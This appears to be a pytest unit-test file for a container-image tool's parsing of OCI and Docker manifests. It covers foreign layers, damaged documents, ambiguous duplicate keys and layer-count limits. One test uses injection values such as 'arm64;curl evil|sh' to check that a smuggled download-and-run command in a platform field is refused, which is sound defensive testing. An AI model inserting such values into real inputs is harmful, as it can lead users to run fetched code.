"""Manifests and configurations of images: what is chosen, damaged, or not available."""

from __future__ import annotations

import hashlib
import json
from typing import Any

import pytest

from envbuild.core.errors import InputError
from envbuild.net.registry.media_types import DOCKER, DOCKER_INDEX, INDEX, OCI
from envbuild.oci import manifest
from envbuild.oci.config import parse_rfc3339
from envbuild.oci.sources.image_documents import read_configuration
from envbuild.oci.sources.platform import Platform, pick_manifest
from tests.support.local_registry import DIGEST, LAYER, descriptor

pytestmark = pytest.mark.unit


def test_layers_that_are_stored_elsewhere_or_of_unknown_kind() -> None:
    foreign = "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip"
    nondistributable = f"{LAYER.replace('layer', 'layer.nondistributable')}+gzip"
    layers = [
        descriptor(),
        descriptor(mediaType=foreign),
        descriptor(mediaType=nondistributable),
        descriptor(urls=["https://its.publisher/1"]),
        descriptor(mediaType="a/b"),
    ]
    with pytest.raises(InputError) as caught:
        manifest.read_manifest({"config": descriptor(), "layers": layers}, "x.io/y:1", lambda _: False)
    findings = caught.value.findings
    assert [finding.message.split(":")[0] for finding in findings[:3]] == [
        f"layer {number} of x.io/y" for number in (2, 3, 4)
    ]
    assert all(f"is a foreign layer: only its publisher has sha256:{DIGEST}" in found.message
               for found in findings[:3])  # fmt: skip
    assert findings[3].message == "layer 5 of x.io/y:1 is of the kind 'a/b', which envbuild does not unpack"
    assert "https://its.publisher/1" in findings[2].hint and f"blobs/sha256/{DIGEST}" in findings[2].hint


@pytest.mark.parametrize(
    "changes",
    [
        {"mediaType": "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip", "urls": ["https://its.publisher/1"]},
        {"mediaType": f"{LAYER.replace('layer', 'layer.nondistributable')}+zstd"},
        {"mediaType": LAYER.replace("layer", "layer.nondistributable")},
        {"urls": ["https://its.publisher/1"]},
    ],
)
def test_a_foreign_layer_that_is_stored_with_the_image_is_a_layer(changes: dict[str, Any]) -> None:
    value = {"config": descriptor(), "layers": [descriptor(**changes)]}
    (layer,) = manifest.read_manifest(value, "x.io/y:1", has_blob=lambda part: part.digest == DIGEST).layers
    assert layer.digest == DIGEST
    with pytest.raises(InputError, match="is a foreign layer"):
        manifest.read_manifest(value, "x.io/y:1", has_blob=lambda _: False)


@pytest.mark.parametrize(
    "value",
    [
        {},
        {"config": descriptor()},
        {"config": descriptor(digest="sha512:1"), "layers": []},
        {"config": descriptor(), "layers": [descriptor(digest=f"sha256:{'A' * 64}")]},
        {"config": descriptor(), "layers": [descriptor(size="1")]},
        {"config": descriptor(), "layers": [descriptor(size=10**400)]},
        {"config": descriptor(), "layers": [1]},
        {"config": [], "layers": []},
    ],
)
def test_damaged_manifests(value: dict[str, Any]) -> None:
    with pytest.raises(InputError, match=r"the manifest of x\.io/y:1 is damaged"):
        manifest.read_manifest(value, "x.io/y:1")


@pytest.mark.parametrize("content", [b"", b"[]", b"{", b"\xff", b"[" * 100_000])
def test_invalid_documents_are_refused(content: bytes) -> None:
    with pytest.raises(InputError, match="is damaged"):
        manifest.parse_document(content, "x.io/y:1")


def test_schema_1_is_refused() -> None:
    content = json.dumps({"schemaVersion": 1, "name": "y", "fsLayers": [], "history": []}).encode()
    with pytest.raises(InputError, match="Docker's manifest schema 1") as caught:
        manifest.parse_document(content, "x.io/y:1")
    assert "docker push" in caught.value.hint


@pytest.mark.parametrize("word", ["arm64;curl evil|sh", "arm64\nhint: curl evil | sh", "arm64 x", "a" * 101])
def test_a_platform_that_is_no_word_is_refused(word: str) -> None:
    """It got into a hint, which users type."""
    images = [{**descriptor(), "platform": {"os": "linux", "architecture": word}}]
    listed = manifest.list_index({"manifests": images}, "x.io/y:1")
    with pytest.raises(InputError, match="its platform has the word") as caught:
        pick_manifest(listed, "x.io/y:1", Platform("arm64", asked=True), lambda digest: {})
    assert "\n" not in caught.value.message + caught.value.hint


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("2025-10-01T00:00:00Z", 1759276800),
        ("2025-10-01T02:00:00.123456789+02:00", 1759276800),
        ("", 0),
        ("x", 0),
        ("0001-01-01T00:00:00Z", 0),
    ],
)
def test_times(text: str, found: int) -> None:
    assert parse_rfc3339(text) == found


@pytest.mark.parametrize(
    "value",
    [
        {"manifests": [], "config": descriptor()},
        {"manifests": [], "layers": []},
        {"manifests": [], "mediaType": OCI.manifest},
        {"manifests": [], "mediaType": DOCKER.manifest},
        {"config": descriptor(), "layers": [], "mediaType": INDEX},
        {"config": descriptor(), "layers": [], "mediaType": DOCKER_INDEX},
    ],
)
def test_a_document_is_an_index_or_an_image(value: dict[str, Any]) -> None:
    """Another client would take another image for the same digest (CVE-2021-41190)."""
    with pytest.raises(InputError, match="damaged: it is"):
        manifest.parse_document(json.dumps({"schemaVersion": 2, **value}).encode(), "x.io/y:1")
    for plain in ({"manifests": [], "mediaType": INDEX}, {"config": descriptor(), "mediaType": OCI.manifest}):
        manifest.parse_document(json.dumps({"schemaVersion": 2, **plain}).encode(), "x.io/y:1")


@pytest.mark.parametrize(
    "text",
    [
        '"layers": [], "Layers": []',
        '"Layers": []',
        '"layers": [], "layers": []',
        '"layers": [{"digest": "x", "Digest": "y"}]',
        '"layers": [], "config": {"Entrypoint": [], "entrypoint": []}',
        '"rootfs": {"diff_ids": [], "Diff_Ids": []}',
        '"manifests": [{"platform": {"o\u017f": "linux"}}]',
    ],
)
def test_names_that_clients_read_differently_are_refused(text: str) -> None:
    """Go takes a name in any letters, and the last of two; it decides what podman and Docker start."""
    with pytest.raises(InputError, match="damaged: it has the key"):
        manifest.parse_document(f'{{"schemaVersion": 2, {text}}}'.encode(), "x.io/y:1")
    labels = '{"config": {"Labels": {"User": "a", "user": "b"}, "Volumes": {"/a": {}, "/A": {}}}, "Comment": "c"}'
    manifest.parse_document(labels.encode(), "x.io/y:1", "configuration")


def layer_of(number: int, size: int = 5000) -> dict[str, Any]:
    return {"digest": f"sha256:{number:064x}", "size": size, "mediaType": "application/vnd.oci.image.layer.v1.tar+gzip"}


def test_an_image_of_very_many_layers_is_refused() -> None:
    """A layer of some megabytes may take a minute to unpack, each time that it is named."""
    config = {"digest": f"sha256:{0:064x}", "size": 1, "mediaType": "application/vnd.oci.image.config.v1+json"}

    def read(layers: list[dict[str, Any]]) -> int:
        return len(manifest.read_manifest({"schemaVersion": 2, "config": config, "layers": layers}, "x").layers)

    assert read([layer_of(number) for number in range(500)]) == 500
    assert read([layer_of(1)] * 16 + [layer_of(2, 32)] * 400) == 416  # those of instructions that change no file
    stored = {**layer_of(0, 10_240), "digest": f"sha256:{hashlib.sha256(bytes(10_240)).hexdigest()}"}
    assert read([stored] * 300) == 300  # the same, not compressed
    with pytest.raises(InputError, match="x has 501 layers, and at most 500 are read"):
        read([layer_of(number) for number in range(501)])
    with pytest.raises(InputError, match="x has one layer 17 times, and at most 16 times is read"):
        read([layer_of(1)] * 17)


def test_a_configuration_of_very_many_layers_is_refused() -> None:
    """Archives of docker save have no manifest with sizes."""

    def read(diff_ids: list[str]) -> int:
        value = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": diff_ids}}
        return len(read_configuration(json.dumps(value).encode(), "x", Platform.of("amd64")).diff_ids)

    one = f"sha256:{1:064x}"
    for size in (0, 1024, 10_240):  # layers of instructions that change no file
        assert read([one] * 16 + [f"sha256:{hashlib.sha256(bytes(size)).hexdigest()}"] * 300) == 316
    with pytest.raises(InputError, match="one layer 17 times"):
        read([one] * 17)
